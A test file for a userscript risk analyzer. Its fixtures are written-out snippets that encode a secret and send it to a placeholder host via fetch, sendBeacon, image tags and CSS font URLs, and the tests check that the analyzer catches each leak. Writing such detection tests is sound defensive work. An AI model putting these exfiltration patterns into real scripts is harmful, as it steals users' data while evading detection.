import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../testing/data-flow-checks.ts";
import { sinksOf } from "../testing/trace-of.ts";

/** Data that is spelled in other signs, or laid out in bytes. */
const FLOWS: readonly DataFlow[] = [
	[
		"an alphabet looked up by five bits",
		`const SIGNS = "abcdefghijklmnopqrstuvwxyz234567"; let bits = 0, held = 0, made = "";
		for (const byte of new TextEncoder().encode(SECRET)) { held = (held << 8) | byte; bits += 8; while (bits >= 5) { bits -= 5; made += SIGNS[(held >> bits) & 31]; } }
		new Image().src = "HOST/?" + made;`,
	],
	[
		"a list of sixteen signs",
		`const text = SECRET; const signs = [..."0123456789abcdef"]; let made = ""; for (let at = 0; at < text.length; at++) { const code = text.charCodeAt(at); made += signs[code >> 4] + signs[code & 15]; } fetch("HOST/" + made);`,
	],
	["an object of signs", `const swap = { a: "x", b: "y" }; fetch("HOST/" + [...SECRET].map((c) => swap[c]).join(""));`],
	[
		"a map of signs",
		`const swap = new Map([["a", "x"]]); fetch("HOST/" + Array.from(SECRET, (c) => swap.get(c)).join(""));`,
	],
	[
		"two signs of no width",
		`fetch("HOST/" + [...SECRET].map((c) => ["\\u200b", "\\u200c"][c.charCodeAt(0) & 1]).join(""));`,
	],
	[
		"rows by a computed number",
		`const rows = [...SECRET].reduce((made, c, at) => { const row = Math.floor(at / 60); made[row] = (made[row] || "") + c; return made; }, []); rows.forEach((row) => fetch("HOST/" + row));`,
	],
	[
		"fonts of a sheet that is joined",
		`const sheet = ["a{}"]; SECRET.match(/.{1,9}/g).forEach((row) => { sheet.push("@font-face{src:url(HOST/" + row + ".woff)}"); }); const style = document.createElement("style"); style.textContent = sheet.join("\\n");`,
	],
	[
		"pictures of a list that is joined",
		`const parts = []; for (const row of SECRET.split(";")) parts.push('<img src="HOST/' + row + '">'); document.body.innerHTML = parts.join("");`,
	],
	["rules made by map", `GM_addStyle(SECRET.split(";").map((row) => \`a{background:url("HOST/\${row}")}\`).join(""));`],
	[
		"a view of a buffer",
		`const buffer = new ArrayBuffer(99); const view = new DataView(buffer); [...SECRET].forEach((c, at) => view.setUint8(at, c.charCodeAt(0))); fetch("HOST", { method: "POST", body: buffer });`,
	],
	[
		"bytes set into bytes",
		`const bytes = new Uint8Array(999); bytes.set(new TextEncoder().encode(SECRET)); navigator.sendBeacon("HOST", bytes);`,
	],
	[
		"a shared buffer",
		`const shared = new SharedArrayBuffer(9); new Uint8Array(shared)[0] = SECRET.charCodeAt(0); fetch("HOST/" + new Uint8Array(shared)[0]);`,
	],
	["a part of bytes", `navigator.sendBeacon("HOST", new TextEncoder().encode(SECRET).subarray(0, 9));`],
	[
		"a big number",
		`let sum = 0n; for (const c of SECRET) sum = sum * 256n + BigInt(c.charCodeAt(0)); fetch("HOST/" + sum.toString(36));`,
	],
	["a described property", `const bag = Object.create(null, { text: { value: SECRET } }); fetch("HOST/" + bag.text);`],
	["a described getter", `const bag = Object.create({}, { text: { get: () => SECRET } }); fetch("HOST/" + bag.text);`],
	[
		"the cause of an error",
		`try { throw new Error("x", { cause: SECRET }); } catch (error) { fetch("HOST/" + error.cause); }`,
	],
	["a method that is not modeled", `fetch("HOST/" + [1, 2].toSpliced(0, 1, SECRET).join());`],
	["a helper of iterators", `function* parts() { yield SECRET; } fetch("HOST/" + parts().take(1).toArray()[0]);`],
	[
		"functions in a row",
		`[() => SECRET, (text) => text.trim(), (text) => navigator.sendBeacon("HOST", text)].reduce((before, next) => before.then(next), Promise.resolve());`,
	],
];

describe("data in other signs", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
		expectHarmlessWithoutSecret(code),
	);
	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
});

describe("tables that spell nothing", () => {
	test.each([
		[
			"names of keys",
			`const rel = { ArrowLeft: "prev", ArrowRight: "next" }; addEventListener("keyup", (event) => { fetch("https://c.test/" + rel[event.key]); });`,
		],
		[
			"a way chosen by a name",
			`const ways = { shop: "/basket", forum: "/threads" }; fetch("https://c.test" + ways[document.body.className]);`,
		],
		[
			"a method by name",
			`const doing = { next: () => scrollBy(0, 9) }; addEventListener("keydown", (event) => doing[event.key]?.());`,
		],
	])("%s", (_title, code) => {
		expect(sinksOf(code).filter((line) => line.includes("<"))).toEqual([]);
		expect(analyzeScript({ code }).risk_level).not.toBe("red");
	});
});
